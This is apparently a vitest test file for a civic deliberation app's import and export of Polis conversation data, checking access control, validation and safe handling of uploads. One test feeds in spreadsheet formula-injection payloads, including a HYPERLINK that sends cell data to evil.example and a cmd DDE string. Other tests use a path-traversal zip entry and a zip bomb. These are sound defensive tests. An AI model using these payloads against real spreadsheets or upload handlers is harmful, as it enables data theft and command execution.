import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { strToU8, zipSync } from 'fflate';
import { parse } from 'csv-parse/sync';
import { count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { conversations, statements } from '../db/schema/index.ts';
import { startTestApp, type TestApp } from '../../test/helpers/app.ts';
import { makeMember, makeTree, type TestMember, type Tree } from '../../test/helpers/factories.ts';
import { extractPolisZip } from './polis-zip.ts';

const BREXIT = path.resolve(import.meta.dirname, '../../../shared/data/polis/brexit-consensus');
const FILES = ['votes.csv', 'comments.csv', 'participants-votes.csv'] as const;

let t: TestApp;
let tree: Tree;
let organiser: TestMember;
let member: TestMember;
let otherModerator: TestMember;
const cookies: Record<string, string> = {};

interface Imported {
  conversation: { id: string };
  imported: { statements: number; participants: number; votes: number };
  error?: { code: string; issues?: { field: string; line?: number; message: string }[] };
}

/** Posts a Polis export as the web app does: a multipart form with the files. */
async function importFiles(
  files: Record<string, string>,
  who = 'organiser',
  fields: Record<string, string> = {},
) {
  const form = new FormData();
  for (const [k, v] of Object.entries({
    branchId: tree.constituencyA.id,
    title: 'Brexit',
    question: 'Can there be consensus?',
    ...fields,
  }))
    form.set(k, v);
  for (const [name, text] of Object.entries(files)) form.append(name, new Blob([text]), name);
  const encoded = new Response(form);
  return t.app.inject({
    method: 'POST',
    url: '/api/conversations/import',
    headers: { cookie: cookies[who] ?? '', 'content-type': encoded.headers.get('content-type') ?? '' },
    payload: Buffer.from(await encoded.arrayBuffer()),
  });
}

async function exportAll(id: string, who = 'organiser'): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const f of FILES) {
    const r = await t.app.inject({
      url: `/api/conversations/${id}/export/polis/${f}`,
      headers: { cookie: cookies[who] ?? '' },
    });
    expect(r.statusCode).toBe(200);
    out[f] = r.body;
  }
  return out;
}

beforeAll(async () => {
  t = await startTestApp();
  tree = await makeTree(t.database.db);
  organiser = await makeMember(t.database.db, tree.wardA, { roles: [['organiser', tree.constituencyA]] });
  member = await makeMember(t.database.db, tree.wardA);
  otherModerator = await makeMember(t.database.db, tree.wardB, {
    roles: [['moderator', tree.constituencyB]],
  });
  for (const [k, m] of Object.entries({ organiser, member, otherModerator }))
    cookies[k] = await t.signIn(m.email);
});

afterAll(async () => {
  await t.close();
});

describe('Polis export and import', () => {
  it('imports a real Polis export, and export → import → export gives equal files', async () => {
    const original = {
      'comments.csv': fs.readFileSync(path.join(BREXIT, 'comments.csv'), 'utf8'),
      'votes.csv': fs.readFileSync(path.join(BREXIT, 'votes.csv'), 'utf8'),
    };
    const first = await importFiles(original);
    expect(first.statusCode).toBe(201);
    const a = first.json<Imported>();
    expect(a.imported.statements).toBe(50);
    expect(a.imported.participants).toBeGreaterThan(150);
    await t.analysis.drain({ all: true });
    const e1 = await exportAll(a.conversation.id);
    expect(e1['votes.csv']?.split('\n')[0]).toBe('timestamp,datetime,comment-id,voter-id,vote');
    expect(e1['participants-votes.csv']).toMatch(/\n\d+,[0-9],/); // participants carry their group

    const second = await importFiles({
      'comments.csv': e1['comments.csv'] ?? '',
      'votes.csv': e1['votes.csv'] ?? '',
    });
    expect(second.statusCode).toBe(201);
    await t.analysis.drain({ all: true });
    const e2 = await exportAll(second.json<Imported>().conversation.id);
    for (const f of FILES) expect(e2[f], f).toBe(e1[f]);

    // The analysis JSON export is the engine's report.
    const analysis = await t.app.inject({
      url: `/api/conversations/${a.conversation.id}/export/analysis.json`,
      headers: { cookie: cookies.organiser ?? '' },
    });
    const report = analysis.json<{ method: string; participants: unknown[]; commonGround: string[] }>();
    expect(report.method).toBe('broadchurch');
    expect(report.participants.length).toBe(a.imported.participants);
  });

  it('keeps Polis’s own groups as a reference layer: those who run it see them beside ours, in counts', async () => {
    const pv = fs.readFileSync(path.join(BREXIT, 'participants-votes.csv'), 'utf8');
    const res = await importFiles({
      'comments.csv': fs.readFileSync(path.join(BREXIT, 'comments.csv'), 'utf8'),
      'participants-votes.csv': pv,
    });
    expect(res.statusCode).toBe(201);
    const id = res.json<Imported>().conversation.id;
    await t.analysis.drain({ all: true });
    // participants-votes.csv carries no dates: the report says nothing of 1 January 1970.
    const report = await t.app.inject({
      url: `/api/conversations/${id}/report`,
      headers: { cookie: cookies.organiser ?? '' },
    });
    const { participation, participants } = report.json<{ participation: unknown[]; participants: number }>();
    expect(participants).toBeGreaterThan(0);
    expect(participation).toEqual([]);
    const rows = parse<Record<string, string>>(pv, { columns: true });
    const grouped = rows.filter((r) => (r['group-id'] ?? '') !== '');
    const polisGroupIds = new Set(grouped.map((r) => Number(r['group-id'])));
    const got = await t.app.inject({
      url: `/api/conversations/${id}/polis-groups`,
      headers: { cookie: cookies.organiser ?? '' },
    });
    expect(got.statusCode).toBe(200);
    const cmp = got.json<{
      available: boolean;
      analysed: boolean;
      compared: number;
      agreement: number | null;
      points: [number, number, number, number][];
      groups: { polisGroup: number; size: number; ours: { group: number | null; count: number }[] }[];
    }>();
    expect(cmp.available).toBe(true);
    expect(cmp.analysed).toBe(true);
    expect(cmp.groups.map((g) => g.polisGroup)).toEqual([...polisGroupIds].sort((a, b) => a - b));
    for (const g of cmp.groups) {
      expect(g.size).toBe(grouped.filter((r) => Number(r['group-id']) === g.polisGroup).length);
      expect(g.ours.reduce((s, o) => s + o.count, 0)).toBe(g.size);
    }
    expect(cmp.compared).toBeGreaterThan(grouped.length / 2);
    // The map both ways: a point for each participant placed by both, coloured by each grouping.
    expect(cmp.points).toHaveLength(cmp.compared);
    expect(new Set(cmp.points.map((p) => p[3]))).toEqual(polisGroupIds);
    expect(cmp.agreement).not.toBeNull();
    expect(Math.abs(cmp.agreement ?? 2)).toBeLessThanOrEqual(1);
    // Nobody is named: counts only.
    expect(got.body).not.toMatch(/"(id|participant|memberId)"/);
    // A member who does not run it sees nothing; a conversation without Polis's groups says so.
    const member = await t.app.inject({
      url: `/api/conversations/${id}/polis-groups`,
      headers: { cookie: cookies.member ?? '' },
    });
    expect(member.statusCode).toBe(403);
    const plain = await importFiles({
      'comments.csv': fs.readFileSync(path.join(BREXIT, 'comments.csv'), 'utf8'),
      'votes.csv': fs.readFileSync(path.join(BREXIT, 'votes.csv'), 'utf8'),
    });
    const none = await t.app.inject({
      url: `/api/conversations/${plain.json<Imported>().conversation.id}/polis-groups`,
      headers: { cookie: cookies.organiser ?? '' },
    });
    // (Not analysed yet either: this test does not run the analysis of the second import.)
    expect(none.json()).toEqual({
      available: false,
      analysed: false,
      compared: 0,
      agreement: null,
      groups: [],
      points: [],
    });
  });

  it('a newer export marks seed and meta statements; they are kept as such and exported again', async () => {
    const res = await importFiles({
      'comments.csv':
        'comment-id,comment-body,timestamp,author-id,agrees,disagrees,moderated,is-seed,is-meta,group-informed-consensus\n' +
        '0,Buses should be free,1,0,1,0,1,true,false,0.5\n' +
        '1,I live in the town,2,1,1,0,1,false,true,0.5\n' +
        '2,Cut the fares,3,2,0,1,1,false,false,0.5\n',
      'votes.csv': 'timestamp,datetime,comment-id,voter-id,vote\n1,x,0,7,1\n2,x,1,7,1\n3,x,2,8,-1\n',
    });
    expect(res.statusCode).toBe(201);
    const id = res.json<Imported>().conversation.id;
    const rows = await t.database.db
      .select({ text: statements.text, seed: statements.seed, meta: statements.meta })
      .from(statements)
      .where(eq(statements.conversationId, id))
      .orderBy(statements.number);
    expect(rows).toEqual([
      { text: 'Buses should be free', seed: true, meta: false },
      { text: 'I live in the town', seed: false, meta: true },
      { text: 'Cut the fares', seed: false, meta: false },
    ]);
    const exported = parse<Record<string, string>>((await exportAll(id))['comments.csv'] ?? '', {
      columns: true,
    });
    expect(exported.map((r) => [r['is-seed'], r['is-meta']])).toEqual([
      ['true', 'false'],
      ['false', 'true'],
      ['false', 'false'],
    ]);
  });

  it('statements a spreadsheet would run as formulas are exported neutralised, and re-import as written', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
    ];
    const comments = [
      'timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body',
      ...hostile.map((text, i) => `0,x,${i},,0,0,1,"${text.replaceAll('"', '""')}"`),
    ].join('\n');
    const votes = 'timestamp,datetime,comment-id,voter-id,vote\n1,x,0,1,1\n';
    const imported = await importFiles({ 'comments.csv': comments, 'votes.csv': votes });
    expect(imported.statusCode).toBe(201);
    const id = imported.json<Imported>().conversation.id;
    const exported = (await exportAll(id))['comments.csv'] ?? '';
    const rows: string[][] = parse(exported, { from_line: 2 });
    const bodies = rows.map((row) => row.at(-1) ?? '');
    // Every body begins with an apostrophe: no cell starts a formula.
    expect(bodies).toHaveLength(4);
    for (const b of bodies) expect(b).toMatch(/^'[=+\-@]/);
    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    // Imported again, the statements read as they were written.
    const again = await importFiles({ 'comments.csv': exported, 'votes.csv': votes });
    const second = again.json<Imported>().conversation.id;
    const texts = await t.database.db
      .select({ text: statements.text })
      .from(statements)
      .where(eq(statements.conversationId, second));
    expect(texts.map((x) => x.text).sort()).toEqual([...hostile].sort());
  });

  it('the upload is a form of Polis files: anything else is refused by name, and nothing is written', async () => {
    const [before] = await t.database.db.select({ n: count() }).from(conversations);
    const comments = fs.readFileSync(path.join(BREXIT, 'comments.csv'), 'utf8');
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/conversations/import',
      headers: { cookie: cookies.organiser ?? '' },
      payload: { branchId: tree.constituencyA.id, title: 'x', question: 'y', files: {} },
    });
    expect(json.statusCode).toBe(415);
    const stranger = await importFiles({ 'comments.csv': comments, 'passwords.txt': 'x' });
    expect(stranger.statusCode).toBe(400);
    expect(stranger.json<Imported>().error?.issues?.[0]?.field).toBe('passwords.txt');
    const noTitle = await importFiles(
      { 'comments.csv': comments, 'votes.csv': 'timestamp,datetime,comment-id,voter-id,vote\n' },
      'organiser',
      { title: '' },
    );
    expect(noTitle.statusCode).toBe(400);
    expect(noTitle.json<Imported>().error?.issues?.map((i) => i.field)).toEqual(['title']);
    const [after] = await t.database.db.select({ n: count() }).from(conversations);
    expect(after?.n).toBe(before?.n);
  });

  it('a bad row is reported with its file and line, and nothing is written', async () => {
    const [before] = await t.database.db.select({ n: count() }).from(conversations);
    const r = await importFiles({
      'comments.csv':
        'timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body\n0,x,0,1,0,0,1,Fine\n0,x,1,1,0,0,1,Also fine\n',
      'votes.csv': 'timestamp,datetime,comment-id,voter-id,vote\n1000,x,0,1,1\n2000,x,7,2,1\n',
    });
    expect(r.statusCode).toBe(422);
    const body = r.json<Imported>();
    expect(body.error?.code).toBe('IMPORT_INVALID');
    expect(body.error?.issues?.[0]).toMatchObject({ field: 'votes.csv', line: 3 });
    const [after] = await t.database.db.select({ n: count() }).from(conversations);
    expect(after?.n).toBe(before?.n);
  });

  it('only those who run the conversation may export it; exports name no member', async () => {
    const r = await importFiles({
      'comments.csv': fs.readFileSync(path.join(BREXIT, 'comments.csv'), 'utf8'),
      'votes.csv': fs.readFileSync(path.join(BREXIT, 'votes.csv'), 'utf8'),
    });
    const id = r.json<Imported>().conversation.id;
    for (const who of ['member', 'otherModerator']) {
      for (const url of [
        `/api/conversations/${id}/export/polis/votes.csv`,
        `/api/conversations/${id}/export/analysis.json`,
      ]) {
        const res = await t.app.inject({ url, headers: { cookie: cookies[who] ?? '' } });
        expect(res.statusCode, `${who} ${url}`).toBe(403);
      }
    }
    expect((await importFiles({ 'comments.csv': 'x' }, 'member')).statusCode).toBe(403);
    const files = await exportAll(id);
    for (const m of [organiser, member, otherModerator]) {
      expect(Object.values(files).join('\n')).not.toContain(m.id);
    }
    const [c] = await t.database.db.select().from(conversations).where(eq(conversations.id, id));
    expect(c?.access).toBe('branch');
  });
});

describe('a Polis export as Polis gives it', () => {
  const folder = (): Record<string, string> =>
    Object.fromEntries(
      ['comments.csv', 'votes.csv', 'participants-votes.csv', 'summary.csv', 'stats-history.csv'].map((f) => [
        f,
        fs.readFileSync(path.join(BREXIT, f), 'utf8'),
      ]),
    );

  it('takes the whole folder, skipping the files it does not need', async () => {
    const r = await importFiles(folder(), 'organiser', { title: 'Brexit, whole folder' });
    expect(r.statusCode).toBe(201);
    expect(r.json<Imported>().imported.statements).toBeGreaterThan(0);
  });

  it('takes the folder as one .zip, however its entries are foldered; only the export files are written', async () => {
    const entries = Object.fromEntries(
      Object.entries(folder()).map(([name, text]) => [`brexit-consensus/${name}`, strToU8(text)]),
    );
    // An entry named to climb out of the import's folder is written, by its file name, inside it.
    entries['../../escaped/comments-extra.csv'] = strToU8('x');
    const zipped = zipSync(entries);
    const r = await importBinary('brexit.zip', zipped, { title: 'Brexit, zipped' });
    expect(r.statusCode).toBe(201);
    const imported = r.json<Imported>().imported;
    const direct = (await importFiles(folder(), 'organiser', { title: 'Brexit, again' })).json<Imported>();
    expect(imported).toEqual(direct.imported);
  });

  it('refuses what is not a zip, and stops inflating an entry past the size an export file may have', async () => {
    const notZip = await importBinary('export.zip', strToU8('comments.csv,not a zip'), {
      title: 'Not a zip',
    });
    expect(notZip.statusCode).toBe(400);
    expect(notZip.json<Imported>().error?.issues?.[0]).toMatchObject({ message: 'is not a zip archive' });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'bc-zip-test-'));
    try {
      // A small archive that inflates far beyond the cap (here 1 KB): refused, with nothing more written.
      const bomb = zipSync({ 'comments.csv': new Uint8Array(1_000_000) }, { level: 9 });
      expect(bomb.length).toBeLessThan(5_000);
      await expect(
        extractPolisZip(Readable.from([Buffer.from(bomb)]), dir, ['comments.csv'], 1024),
      ).rejects.toMatchObject({
        code: 'PAYLOAD_TOO_LARGE',
      });
      expect(fs.statSync(path.join(dir, 'comments.csv')).size).toBeLessThanOrEqual(1024);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** Posts one binary file (a .zip) with the import form. */
async function importBinary(name: string, bytes: Uint8Array, fields: Record<string, string>) {
  const form = new FormData();
  for (const [k, v] of Object.entries({
    branchId: tree.constituencyA.id,
    question: 'Can there be consensus?',
    ...fields,
  }))
    form.set(k, v);
  form.append(name, new Blob([bytes], { type: 'application/zip' }), name);
  const encoded = new Response(form);
  return t.app.inject({
    method: 'POST',
    url: '/api/conversations/import',
    headers: { cookie: cookies.organiser ?? '', 'content-type': encoded.headers.get('content-type') ?? '' },
    payload: Buffer.from(await encoded.arrayBuffer()),
  });
}
